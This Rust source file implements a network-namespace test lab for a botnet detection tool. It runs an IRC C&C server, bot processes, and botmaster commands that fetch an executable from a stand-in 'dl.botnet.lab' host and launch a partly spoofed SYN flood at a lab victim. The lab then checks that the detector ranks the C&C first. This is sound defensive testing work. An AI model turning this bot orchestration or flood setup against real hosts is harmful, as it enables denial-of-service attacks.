@@ -1,0 +1,860 @@
+//! `ashiato hostlab`: host-based bot and C&C tracing end to end in network namespaces
+//! (docs/host-tracing.md, "The namespace lab"). One command, as root:
+//!
+//! ```text
+//!            cc  198.51.100.10  ngircd (the C&C, IRC on 6667)
+//!            dl  203.0.113.80   HTTP download server (an ELF executable, paced)
+//!           web  192.0.2.80     benign web server
+//!        victim  198.18.0.5     HTTP service on 80, tcpdump of its interface
+//!        center  10.77.250.2    ashiato center (mutual TLS, port 8443)
+//!  host1..hostN  10.77.K.2      bot hosts (ircbot + benign curl) and benign hosts (curl)
+//!            \________ all joined by veths to one router namespace, which also
+//!                      answers DNS (cc.botnet.lab, dl.botnet.lab, www.example.lab, ...)
+//! ```
+//!
+//! The story: every host records its history (tcpdump of its interface) and which process
+//! owns which socket (`/proc` samples). Benign processes (curl) fetch pages from `web` and
+//! from the victim's service throughout. On the bot hosts a separate process, `ircbot` (this
+//! binary's hidden `hostlab bot` mode, started under that name), resolves `cc.botnet.lab`,
+//! joins `#ops` on the real ngircd. The botmaster (the lab itself, first in the channel and
+//! so its operator) says `!get http://dl.botnet.lab/update.bin` (an ELF, found by content,
+//! not by name) and then `!flood 198.18.0.5 80 SECS RATE 50`: half of the SYNs spoofed. The
+//! victim files its claim from its own capture with `ashiato report --pcap` (the SYN-flood
+//! detector writes the EVE alerts the center asks for). Each host fetches the signed claim
+//! list, audits its history with `ashiato hostcheck --list`, and reports the destinations of
+//! the processes that showed one of the five features near the attack (never packet
+//! contents). The lab then asks the center for `GET /v1/ranking/{incident}` and checks: the
+//! C&C first, the download server second, every bot reported and nothing else, the records
+//! naming `ircbot` and no benign destination (web, victim, resolver, center).
+//!
+//! Seeded: which hosts are bots, the number of benign-only hosts (2 or 3 unless `--benign`),
+//! the flood rate (200-400 SYNs/s per bot), the bots' spoofed sources and the benign
+//! processes' timing. Everything is made in a working directory (kept with `--keep`) and
+//! every namespace, process and `/etc/netns` entry is removed when the lab ends, also on
+//! failure. Exit 3 when a check fails, with the reason.
+
+use std::collections::{BTreeSet, HashMap};
+use std::net::{Ipv4Addr, SocketAddr};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::{Duration, Instant};
+
+use anyhow::{Context, Result, bail};
+use ashiato_capture::netns::{Netns, in_netns, unique_name, veth_pair};
+use ashiato_net::client::{ClientError, ServiceClient};
+use ashiato_net::tls::{TlsFiles, client_config};
+use ashiato_rng::SplitMix64;
+use serde_json::{Value, json};
+
+use crate::CheckFailed;
+use crate::hostlab_bot::BotArgs;
+use crate::hostlab_host::{self as host, HostAudit};
+use crate::hostlab_srv::{Botmaster, Page, dns_server, http_server};
+
+/// `ashiato hostlab`
+#[derive(clap::Args, Debug)]
+#[command(args_conflicts_with_subcommands = true)]
+pub struct HostlabArgs {
+    /// The bot program (started by the lab on each bot host).
+    #[command(subcommand)]
+    pub bot: Option<HostlabBot>,
+    /// Bot hosts.
+    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u32).range(1..=20))]
+    pub bots: u32,
+    /// Hosts with benign processes only (default: 2 or 3, seeded).
+    #[arg(long, value_parser = clap::value_parser!(u32).range(0..=20))]
+    pub benign: Option<u32>,
+    /// Seed of the roles, rates, spoofed sources and benign timing.
+    #[arg(long, default_value_t = 1)]
+    pub seed: u64,
+    /// Seconds the bots flood.
+    #[arg(long, default_value_t = 3, value_parser = clap::value_parser!(u64).range(1..=30))]
+    pub flood_secs: u64,
+    /// One JSON object with the ranking, the hosts and the checks.
+    #[arg(long)]
+    pub json: bool,
+    /// Keep the working directory (captures, snapshots, logs, certificates) here.
+    #[arg(long)]
+    pub keep: Option<PathBuf>,
+    /// The center's allow list (servers never ranked, one address a line), as an operator
+    /// would give it: listing the C&C there makes the lab fail.
+    #[arg(long)]
+    pub center_allow: Option<PathBuf>,
+}
+
+/// The hidden bot mode.
+#[derive(clap::Subcommand, Debug)]
+pub enum HostlabBot {
+    /// Run the lab's IRC bot (started by `ashiato hostlab`, not by hand).
+    #[command(hide = true)]
+    Bot(BotArgs),
+}
+
+const CC: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 10);
+const DL: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 80);
+const WEB: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 80);
+const VICTIM: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 5);
+const CENTER: Ipv4Addr = Ipv4Addr::new(10, 77, 250, 2);
+const CENTER_PORT: u16 = 8443;
+const IRC_PORT: u16 = 6667;
+const CHANNEL: &str = "#ops";
+
+/// A child process stopped (SIGTERM, then SIGKILL after 3 s) when dropped.
+struct Proc(Child);
+
+impl Proc {
+    fn pid(&self) -> u32 {
+        self.0.id()
+    }
+
+    /// Stops it and waits; a capture flushes its file on SIGTERM.
+    fn stop(&mut self) {
+        if let Ok(Some(_)) = self.0.try_wait() {
+            return;
+        }
+        // SAFETY: kill(2) on our own child's pid.
+        unsafe { libc::kill(self.0.id() as i32, libc::SIGTERM) };
+        let end = Instant::now() + Duration::from_secs(3);
+        while Instant::now() < end {
+            if let Ok(Some(_)) = self.0.try_wait() {
+                return;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+impl Drop for Proc {
+    fn drop(&mut self) {
+        self.stop();
+    }
+}
+
+/// `/etc/netns/NAME/` (resolv.conf for `ip netns exec`), removed when dropped.
+struct EtcNetns(PathBuf);
+
+impl Drop for EtcNetns {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// Everything made; dropped in field order: processes, then /etc entries, then namespaces.
+struct Lab {
+    procs: Vec<Proc>,
+    stop: Arc<AtomicBool>,
+    _etc: Vec<EtcNetns>,
+    router: Netns,
+    cc: Netns,
+    dl: Netns,
+    web: Netns,
+    victim: Netns,
+    center: Netns,
+    hosts: Vec<Netns>,
+}
+
+impl Drop for Lab {
+    fn drop(&mut self) {
+        self.stop.store(true, Ordering::Relaxed);
+        for p in &mut self.procs {
+            p.stop();
+        }
+    }
+}
+
+fn build(n_hosts: usize) -> Result<Lab> {
+    let ns = |p: &str| Netns::new(&unique_name(p)).context("ip netns add (root needed)");
+    let router = ns("hlr")?;
+    // Spoofed sources must pass the router (no reverse-path filter).
+    for k in ["all", "default"] {
+        router.exec(&["sysctl", "-qw", &format!("net.ipv4.conf.{k}.rp_filter=0")])?;
+    }
+    router.exec(&["sysctl", "-qw", "net.ipv4.ip_forward=1"])?;
+    let mut lab = Lab {
+        procs: Vec::new(),
+        stop: Arc::new(AtomicBool::new(false)),
+        _etc: Vec::new(),
+        cc: ns("hlc")?,
+        dl: ns("hld")?,
+        web: ns("hlw")?,
+        victim: ns("hlv")?,
+        center: ns("hlk")?,
+        hosts: Vec::new(),
+        router,
+    };
+    for _ in 0..n_hosts {
+        lab.hosts.push(ns("hlh")?);
+    }
+    let mut leaves: Vec<(&Netns, Ipv4Addr)> = vec![
+        (&lab.cc, CC),
+        (&lab.dl, DL),
+        (&lab.web, WEB),
+        (&lab.victim, VICTIM),
+        (&lab.center, CENTER),
+    ];
+    for (k, h) in lab.hosts.iter().enumerate() {
+        leaves.push((h, host_addr(k)));
+    }
+    for (i, (leaf, addr)) in leaves.into_iter().enumerate() {
+        let gw = gateway(addr);
+        veth_pair(
+            leaf,
+            "e0",
+            &lab.router,
+            &format!("r{i}"),
+            Some((&format!("{addr}/24"), &format!("{gw}/24"))),
+        )?;
+        leaf.exec(&["ip", "route", "add", "default", "via", &gw.to_string()])?;
+    }
+    Ok(lab)
+}
+
+fn host_addr(k: usize) -> Ipv4Addr {
+    Ipv4Addr::new(10, 77, (k + 1) as u8, 2)
+}
+
+fn gateway(a: Ipv4Addr) -> Ipv4Addr {
+    let o = a.octets();
+    Ipv4Addr::new(o[0], o[1], o[2], 1)
+}
+
+/// The names the router's DNS server answers.
+fn zone() -> HashMap<String, Ipv4Addr> {
+    [
+        ("cc.botnet.lab", CC),
+        ("dl.botnet.lab", DL),
+        ("www.example.lab", WEB),
+        ("victim.example.lab", VICTIM),
+        ("center.example.lab", CENTER),
+    ]
+    .into_iter()
+    .map(|(n, a)| (n.to_string(), a))
+    .collect()
+}
+
+/// Spawns `cmd` in namespace `ns` with its output in `log`.
+fn spawn_in(ns: &Netns, cmd: &[&std::ffi::OsStr], log: &Path) -> Result<Child> {
+    let f = std::fs::File::create(log)?;
+    Command::new("ip")
+        .args(["netns", "exec", ns.name()])
+        .args(cmd)
+        .stdout(f.try_clone()?)
+        .stderr(f)
+        .spawn()
+        .with_context(|| format!("starting {:?}", cmd.first()))
+}
+
+/// Waits until `log` contains `needle` (a process announcing it is ready).
+fn wait_log(log: &Path, needle: &str, child: &mut Child, what: &str) -> Result<()> {
+    let end = Instant::now() + Duration::from_secs(10);
+    while Instant::now() < end {
+        if std::fs::read_to_string(log).is_ok_and(|t| t.contains(needle)) {
+            return Ok(());
+        }
+        if let Ok(Some(st)) = child.try_wait() {
+            bail!(
+                "{what} exited ({st}): {}",
+                std::fs::read_to_string(log).unwrap_or_default().trim()
+            );
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    bail!("{what} did not start within 10 s (see {})", log.display())
+}
+
+/// tcpdump of interface e0 of `ns` into `file`.
+fn capture(ns: &Netns, file: &Path, log: &Path) -> Result<Proc> {
+    let mut c = spawn_in(
+        ns,
+        &[
+            "tcpdump".as_ref(),
+            "-i".as_ref(),
+            "e0".as_ref(),
+            "-U".as_ref(),
+            "-n".as_ref(),
+            "-w".as_ref(),
+            file.as_os_str(),
+        ],
+        log,
+    )
+    .context("tcpdump (apt-get install tcpdump)")?;
+    wait_log(log, "listening on", &mut c, "tcpdump")?;
+    Ok(Proc(c))
+}
+
+/// ngircd in the foreground with its own configuration in `dir`.
+fn ngircd(ns: &Netns, dir: &Path) -> Result<Proc> {
+    let d = dir.join("ngircd");
+    std::fs::create_dir_all(&d)?;
+    // ngircd drops to nobody: its PID file goes where nobody may write.
+    let run = d.join("run");
+    std::fs::create_dir_all(&run)?;
+    std::fs::set_permissions(&run, std::os::unix::fs::PermissionsExt::from_mode(0o777))?;
+    let conf = d.join("ngircd.conf");
+    std::fs::write(
+        &conf,
+        format!(
+            "[Global]\nName = irc.botnet.lab\nInfo = the lab's C&C\nAdminInfo1 = lab\n\
+             AdminInfo2 = lab\nAdminEMail = root@botnet.lab\nListen = {CC}\nPorts = {IRC_PORT}\n\
+             PidFile = {}\nMotdPhrase = \"welcome\"\nServerUID = 65534\nServerGID = 65534\n\
+             [Limits]\nMaxConnectionsIP = 0\n[Options]\nPAM = no\nDNS = no\nIdent = no\n",
+            run.join("ngircd.pid").display()
+        ),
+    )?;
+    let log = d.join("ngircd.log");
+    let mut c = spawn_in(
+        ns,
+        &[
+            "ngircd".as_ref(),
+            "-n".as_ref(),
+            "-f".as_ref(),
+            conf.as_os_str(),
+        ],
+        &log,
+    )
+    .context("ngircd (apt-get install ngircd)")?;
+    wait_log(&log, "ready", &mut c, "ngircd")?;
+    Ok(Proc(c))
+}
+
+/// A JSON call to the center from namespace `ns` with identity `who`.
+fn center_call(
+    ns: &Netns,
+    pki: &Path,
+    who: &str,
+    method: &'static str,
+    path: String,
+    body: Option<Value>,
+) -> Result<Value> {
+    let tls = client_config(&TlsFiles::in_dir(pki, who))?;
+    let addr = format!("{CENTER}:{CENTER_PORT}");
+    in_netns(ns.name(), move || -> Result<Value> {
+        let client = ServiceClient::new(&addr, Some(tls));
+        let rt = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()?;
+        match rt.block_on(client.call::<Value, Value>(method, &path, body.as_ref())) {
+            Ok(v) => Ok(v),
+            // 202 Accepted has no body: the status was a success.
+            Err(ClientError::Decode { .. }) if method == "POST" => Ok(Value::Null),
+            Err(e) => Err(e).with_context(|| format!("{method} {path}")),
+        }
+    })?
+}
+
+/// One host's role and outcome.
+#[derive(serde::Serialize)]
+struct HostOut {
+    name: String,
+    address: String,
+    bot: bool,
+    /// Processes the samples saw owning this host's sockets.
+    processes: BTreeSet<String>,
+    #[serde(flatten)]
+    audit: HostAudit,
+    reported: bool,
+}
+
+/// Runs the lab (or, with `bot`, the bot program).
+pub fn run(a: &HostlabArgs) -> Result<()> {
+    if let Some(HostlabBot::Bot(b)) = &a.bot {
+        return crate::hostlab_bot::run(b);
+    }
+    let started = Instant::now();
+    let mut rng = SplitMix64::new(a.seed);
+    let benign = a.benign.unwrap_or(2 + (rng.next_u64() % 2) as u32) as usize;
+    let n = a.bots as usize + benign;
+    // Seeded roles: a shuffle of the host numbers, the first `bots` of them run the bot.
+    let mut order: Vec<usize> = (0..n).collect();
+    for i in (1..n).rev() {
+        order.swap(i, (rng.next_u64() % (i as u64 + 1)) as usize);
+    }
+    let is_bot: Vec<bool> = (0..n)
+        .map(|k| {
+            order
+                .iter()
+                .position(|&x| x == k)
+                .is_some_and(|p| p < a.bots as usize)
+        })
+        .collect();
+    let rate = 200 + rng.next_u64() % 201;
+    let tmp;
+    let work: PathBuf = match &a.keep {
+        Some(d) => {
+            std::fs::create_dir_all(d).with_context(|| format!("--keep {}", d.display()))?;
+            d.clone()
+        }
+        None => {
+            tmp = tempfile::tempdir()?;
+            tmp.path().to_path_buf()
+        }
+    };
+    let exe = std::env::current_exe()?;
+    let mut lab = build(n)?;
+    let pki = work.join("pki");
+    let mut names = vec!["center".to_string(), "victim".to_string()];
+    names.extend((1..=n).map(|k| format!("host{k}")));
+    ashiato_net::tls::init_pki(
+        &pki,
+        &ashiato_net::tls::PkiOptions {
+            names,
+            extra_sans: vec![CENTER.to_string()],
+            days: ashiato_net::tls::DEFAULT_DAYS,
+            federation: Some("hostlab".into()),
+        },
+        std::time::SystemTime::now(),
+    )?;
+    let keys = work.join("center-keys");
+    let log = work.join("center.log");
+    let mut c = spawn_in(
+        &lab.center,
+        &[
+            exe.as_os_str(),
+            "center".as_ref(),
+            "--listen".as_ref(),
+            format!("{CENTER}:{CENTER_PORT}").as_ref(),
+            "--tls-dir".as_ref(),
+            pki.as_os_str(),
+            "--key-dir".as_ref(),
+            keys.as_os_str(),
+            "--audit-log".as_ref(),
+            work.join("center-audit.log").as_os_str(),
+        ]
+        .into_iter()
+        .chain(
+            a.center_allow
+                .iter()
+                .flat_map(|p| ["--allow".as_ref(), p.as_os_str()]),
+        )
+        .collect::<Vec<_>>(),
+        &log,
+    )?;
+    wait_log(&log, "center listening", &mut c, "ashiato center")?;
+    lab.procs.push(Proc(c));
+    let stop = lab.stop.clone();
+    dns_server(lab.router.name(), zone(), stop.clone())?;
+    let elf = std::fs::read("/bin/true").context("reading /bin/true (the ELF served)")?;
+    if !elf.starts_with(b"\x7fELF") {
+        bail!("/bin/true is not an ELF executable");
+    }
+    let html = |t: &str| Arc::new(format!("<html><body><h1>{t}</h1></body></html>\n").into_bytes());
+    let pages = [
+        // Paced like a slow link: the download lasts about a second, longer than a sample.
+        (
+            &lab.dl,
+            DL,
+            Page {
+                content_type: "application/octet-stream",
+                body: Arc::new(elf),
+                pieces: 10,
+                pace: Duration::from_millis(100),
+            },
+        ),
+        (
+            &lab.web,
+            WEB,
+            // Long enough for the samples to see curl's socket too: benign processes are
+            // attributed, and must still not be reported.
+            Page {
+                content_type: "text/html",
+                body: html(&"news ".repeat(2000)),
+                pieces: 8,
+                pace: Duration::from_millis(60),
+            },
+        ),
+        (
+            &lab.victim,
+            VICTIM,
+            Page {
+                content_type: "text/html",
+                body: html("shop"),
+                pieces: 1,
+                pace: Duration::ZERO,
+            },
+        ),
+    ];
+    for (ns, addr, page) in pages {
+        http_server(ns.name(), SocketAddr::from((addr, 80)), page, stop.clone())?;
+    }
+    let irc = ngircd(&lab.cc, &work)?;
+    lab.procs.push(irc);
+    // Histories: the hosts' and the victim's captures; resolv.conf for each host.
+    let victim_pcap = work.join("victim.pcap");
+    let p = capture(&lab.victim, &victim_pcap, &work.join("victim-tcpdump.log"))?;
+    let victim_cap = lab.procs.len();
+    lab.procs.push(p);
+    let mut dirs = Vec::new();
+    let mut anchors = Vec::new();
+    let first_host_cap = lab.procs.len();
+    for k in 0..n {
+        let name = format!("host{}", k + 1);
+        let d = host::host_dir(&work, &name)?;
+        let etc = PathBuf::from("/etc/netns").join(lab.hosts[k].name());
+        std::fs::create_dir_all(&etc)?;
+        lab._etc.push(EtcNetns(etc.clone()));
+        std::fs::write(
+            etc.join("resolv.conf"),
+            format!("nameserver {}\n", gateway(host_addr(k))),
+        )?;
+        let p = capture(
+            &lab.hosts[k],
+            &d.join("history.pcap"),
+            &d.join("tcpdump.log"),
+        )?;
+        anchors.push(p.pid());
+        lab.procs.push(p);
+        dirs.push(d);
+    }
+    let samples = host::sampler(anchors, stop.clone());
+    // Benign processes on every host: curl fetching the news page and the victim's shop.
+    for h in &lab.hosts {
+        let (ns, s, seed) = (h.name().to_string(), stop.clone(), rng.next_u64());
+        std::thread::spawn(move || benign_loop(&ns, &s, seed));
+    }
+    // The botmaster joins first (the channel's operator), then the bots.
+    let mut master = Botmaster::join(lab.router.name(), SocketAddr::from((CC, IRC_PORT)), CHANNEL)?;
+    let bin = work.join("bin");
+    std::fs::create_dir_all(&bin)?;
+    let bot_exe = bin.join("ircbot");
+    let _ = std::fs::remove_file(&bot_exe);
+    std::os::unix::fs::symlink(&exe, &bot_exe)?;
+    let mut nicks = BTreeSet::new();
+    for k in (0..n).filter(|&k| is_bot[k]) {
+        let nick = format!("bot{}", k + 1);
+        let c = spawn_in(
+            &lab.hosts[k],
+            &[
+                bot_exe.as_os_str(),
+                "hostlab".as_ref(),
+                "bot".as_ref(),
+                "--irc".as_ref(),
+                format!("cc.botnet.lab:{IRC_PORT}").as_ref(),
+                "--channel".as_ref(),
+                CHANNEL.as_ref(),
+                "--nick".as_ref(),
+                nick.as_ref(),
+                "--dir".as_ref(),
+                dirs[k].join("downloads").as_os_str(),
+                "--seed".as_ref(),
+                rng.next_u64().to_string().as_ref(),
+            ],
+            &dirs[k].join("ircbot.log"),
+        )?;
+        lab.procs.push(Proc(c));
+        nicks.insert(nick);
+    }
+    let want = nicks.clone();
+    master.wait(Duration::from_secs(15), "the bots to join", |_, present| {
+        want.is_subset(present)
+    })?;
+    let got = master.command(
+        "!get http://dl.botnet.lab/update.bin",
+        &nicks,
+        Duration::from_secs(20),
+    )?;
+    for (b, t) in &got {
+        if !t.ends_with("(elf)") {
+            bail!("{b} did not fetch the executable: {t}");
+        }
+    }
+    let flood = master.command(
+        &format!("!flood {VICTIM} 80 {} {rate} 50", a.flood_secs),
+        &nicks,
+        Duration::from_secs(a.flood_secs + 20),
+    )?;
+    for (b, t) in &flood {
+        if !t.starts_with("flooded") {
+            bail!("{b} did not flood: {t}");
+        }
+    }
+    // A little benign traffic after the attack, then everyone leaves.
+    std::thread::sleep(Duration::from_millis(500));
+    master.quit();
+    std::thread::sleep(Duration::from_millis(300));
+    stop.store(true, Ordering::Relaxed);
+    lab.procs[victim_cap].stop();
+    for i in first_host_cap..first_host_cap + n {
+        lab.procs[i].stop();
+    }
+    let attack_done = started.elapsed();
+
+    // The victim's claim, from its own capture.
+    let out = Command::new("ip")
+        .args(["netns", "exec", lab.victim.name()])
+        .arg(&exe)
+        .args(["report", "--pcap"])
+        .arg(&victim_pcap)
+        .args(["--center", &format!("{CENTER}:{CENTER_PORT}"), "--tls-dir"])
+        .arg(&pki)
+        .args([
+            "--name",
+            "victim",
+            "--yes",
+            "--id-prefix",
+            "incident",
+            "--fqdn",
+            "victim.example.lab",
+        ])
+        .output()?;
+    let report_out = String::from_utf8_lossy(&out.stdout).into_owned();
+    std::fs::write(work.join("victim-report.txt"), &report_out)?;
+    if !out.status.success() {
+        bail!(
+            "the victim's report was not accepted: {}{}",
+            report_out,
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    let incident = report_out
+        .lines()
+        .find_map(|l| l.strip_prefix("claim ")?.split(' ').next())
+        .context("the report named no accepted claim")?
+        .to_string();
+
+    // Each host: the signed list, the audit, the report.
+    let samples = samples.lock().unwrap_or_else(|e| e.into_inner());
+    let mut hosts_out = Vec::new();
+    for k in 0..n {
+        let name = format!("host{}", k + 1);
+        let d = &dirs[k];
+        std::fs::write(d.join("procs.jsonl"), samples.procs_file(k))?;
+        let delta = center_call(
+            &lab.hosts[k],
+            &pki,
+            &name,
+            "GET",
+            "/v1/claims?since=0".into(),
+            None,
+        )?;
+        let list = d.join("claims.json");
+        std::fs::write(&list, format!("{delta}\n"))?;
+        let audit = host::audit(&exe, lab.hosts[k].name(), d, &keys, &list, &incident)?;
+        let report = host::report(&name, &incident, Some(80), &audit);
+        if let Some(r) = &report {
+            let body = json!({ "report_id": format!("{name}-1"), "report": r });
+            center_call(
+                &lab.hosts[k],
+                &pki,
+                &name,
+                "POST",
+                "/v1/reports".into(),
+                Some(body),
+            )?;
+        }
+        hosts_out.push(HostOut {
+            processes: samples.processes(k),
+            address: host_addr(k).to_string(),
+            bot: is_bot[k],
+            reported: report.is_some(),
+            audit,
+            name,
+        });
+    }
+    drop(samples);
+    let ranking = center_call(
+        &lab.victim,
+        &pki,
+        "victim",
+        "GET",
+        format!("/v1/ranking/{incident}"),
+        None,
+    )?;
+    drop(lab);
+    let problems = check(&ranking, &hosts_out);
+    print(
+        a,
+        &incident,
+        &ranking,
+        &hosts_out,
+        &problems,
+        rate,
+        attack_done,
+        started.elapsed(),
+    )?;
+    if problems.is_empty() {
+        Ok(())
+    } else {
+        Err(CheckFailed(format!("hostlab: {}", problems.join("; "))).into())
+    }
+}
+
+/// Benign processes on one host until `stop`: curl fetches the news page (and every third
+/// time the victim's shop) at seeded intervals of 300-800 ms.
+fn benign_loop(ns: &str, stop: &AtomicBool, seed: u64) {
+    let mut rng = SplitMix64::new(seed);
+    let mut i = 0u64;
+    while !stop.load(Ordering::Relaxed) {
+        let url = if i % 3 == 2 {
+            "http://victim.example.lab/"
+        } else {
+            "http://www.example.lab/"
+        };
+        let _ = Command::new("ip")
+            .args([
+                "netns",
+                "exec",
+                ns,
+                "curl",
+                "-s",
+                "-m",
+                "3",
+                "-o",
+                "/dev/null",
+                url,
+            ])
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status();
+        i += 1;
+        std::thread::sleep(Duration::from_millis(300 + rng.next_u64() % 500));
+    }
+}
+
+/// The checks; each problem as one sentence.
+fn check(ranking: &Value, hosts: &[HostOut]) -> Vec<String> {
+    let mut bad = Vec::new();
+    let servers: Vec<&Value> = ranking
+        .as_array()
+        .map(|v| v.iter().collect())
+        .unwrap_or_default();
+    let rank_of = |ip: Ipv4Addr| {
+        servers
+            .iter()
+            .find(|s| s["server"] == ip.to_string())
+            .and_then(|s| s["rank"].as_u64())
+    };
+    match rank_of(CC) {
+        Some(1) => {}
+        Some(r) => bad.push(format!("the C&C {CC} is ranked {r}, not first")),
+        None => bad.push(format!("the C&C {CC} is not ranked")),
+    }
+    match rank_of(DL) {
+        Some(1 | 2) => {}
+        Some(r) => bad.push(format!(
+            "the download server {DL} is ranked {r}, not in the top 2"
+        )),
+        None => bad.push(format!("the download server {DL} is not ranked")),
+    }
+    let benign_dst: Vec<String> = [WEB, VICTIM, CENTER]
+        .into_iter()
+        .map(|a| a.to_string())
+        .chain((0..hosts.len()).map(|k| gateway(host_addr(k)).to_string()))
+        .collect();
+    for s in &servers {
+        let ip = s["server"].as_str().unwrap_or("");
+        if benign_dst.iter().any(|b| b == ip) {
+            bad.push(format!("benign destination {ip} is ranked"));
+        }
+        for p in s["processes"].as_array().into_iter().flatten() {
+            if p != "ircbot" {
+                bad.push(format!("process {p} is reported for {ip}"));
+            }
+        }
+    }
+    for h in hosts {
+        if h.bot && !h.reported {
+            bad.push(format!("bot host {} did not report", h.name));
+        }
+        if !h.bot && h.reported {
+            bad.push(format!("benign host {} reported", h.name));
+        }
+    }
+    bad
+}
+
+#[allow(
+    clippy::too_many_arguments,
+    reason = "one printer for both output forms"
+)]
+fn print(
+    a: &HostlabArgs,
+    incident: &str,
+    ranking: &Value,
+    hosts: &[HostOut],
+    problems: &[String],
+    rate: u64,
+    attack: Duration,
+    total: Duration,
+) -> Result<()> {
+    if a.json {
+        let v = json!({
+            "incident": incident,
+            "cc": CC.to_string(),
+            "download": DL.to_string(),
+            "seed": a.seed,
+            "flood_rate_per_bot": rate,
+            "hosts": hosts,
+            "ranking": ranking,
+            "ok": problems.is_empty(),
+            "problems": problems,
+            "seconds": total.as_secs_f64(),
+        });
+        println!("{v}");
+        return Ok(());
+    }
+    println!(
+        "incident {incident}: {} bots flooded {VICTIM}:80 at {rate} SYNs/s each, half spoofed (attack over after {:.1} s)",
+        hosts.iter().filter(|h| h.bot).count(),
+        attack.as_secs_f64()
+    );
+    println!("hosts:");
+    for h in hosts {
+        println!(
+            "  {:<7} {:<12} {:<6} processes {:<13} attack packets {:>5} {:?}; findings {}; {}",
+            h.name,
+            h.address,
+            if h.bot { "bot" } else { "benign" },
+            h.processes.iter().cloned().collect::<Vec<_>>().join(","),
+            h.audit.attack_packets,
+            h.audit.kinds,
+            if h.audit.findings.is_empty() {
+                "none".into()
+            } else {
+                h.audit.findings.join(", ")
+            },
+            if h.reported {
+                format!("reported {} records", h.audit.records.len())
+            } else if h.audit.attack_packets > 0 {
+                "matched, no suspicious process: nothing reported".into()
+            } else {
+                "no match: nothing reported".into()
+            }
+        );
+    }
+    println!("C&C ranking (GET /v1/ranking/{incident}):");
+    for s in ranking.as_array().into_iter().flatten() {
+        let list = |k: &str| {
+            s[k].as_array()
+                .map(|v| {
+                    v.iter()
+                        .map(|x| x.to_string().trim_matches('"').to_string())
+                        .collect::<Vec<_>>()
+                        .join(",")
+                })
+                .unwrap_or_default()
+        };
+        println!(
+            "  #{} {} ({}) score {:.3}: {} bots [{}], features {}, ports {}, processes {}",
+            s["rank"],
+            s["server"].as_str().unwrap_or("?"),
+            list("fqdns"),
+            s["score"].as_f64().unwrap_or(0.0),
+            s["reporters"],
+            list("reporter_ids"),
+            list("features"),
+            list("ports"),
+            list("processes"),
+        );
+    }
+    if problems.is_empty() {
+        println!(
+            "ok: the C&C {CC} is ranked first, the download server {DL} second, only ircbot is reported ({:.1} s)",
+            total.as_secs_f64()
+        );
+    }
+    Ok(())
+}
